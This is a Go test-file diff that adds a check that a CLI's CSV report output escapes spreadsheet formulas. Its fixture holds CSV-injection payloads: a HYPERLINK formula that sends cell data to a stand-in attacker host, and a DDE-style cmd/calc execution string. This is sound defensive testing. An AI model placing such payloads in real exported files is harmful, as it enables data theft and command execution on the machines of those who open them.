@@ -1,6 +1,7 @@
 package cli_test
 
 import (
+	"encoding/csv"
 	"os"
 	"path/filepath"
 	"strings"
@@ -130,5 +131,28 @@ func TestPolicyCommandsRefuseBadArguments(t *testing.T) {
 	}
 	if r := e.run("policy", "apply", "/nonexistent.yaml", "--yes"); r.code != cli.ExitError || !strings.Contains(r.stderr, "policy YAML") {
 		t.Errorf("a missing file: %d %s", r.code, r.stderr)
+	}
+}
+
+func TestCSVReportsNeverCarryAFormula(t *testing.T) {
+	e := newEnv(t)
+	evil := `=HYPERLINK("https://evil.example/?d="&A1,"open")`
+	e.srv.Handle("GET /v1/reports/factors", clienttest.JSON(200, api.Page[api.ReportFactor]{Items: []api.ReportFactor{
+		{Username: "alice", FactorID: "fac_1", Kind: "piv", Model: evil, Firmware: "+1+cmd|' /C calc'!A0", Why: "@SUM(1)"}}}))
+	r := e.run("report", "vulnerable", "-o", "csv")
+	if r.code != 0 {
+		t.Fatalf("exit %d: %s", r.code, r.stderr)
+	}
+	recs, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("not a CSV of one row: %v\n%s", err, r.stdout)
+	}
+	for _, cell := range recs[1] {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-" {
+			t.Fatalf("a cell a spreadsheet would run: %q in %q", cell, recs[1])
+		}
+	}
+	if recs[1][3] != "'"+evil {
+		t.Fatalf("the model cell reads %q, want it as text", recs[1][3])
 	}
 }
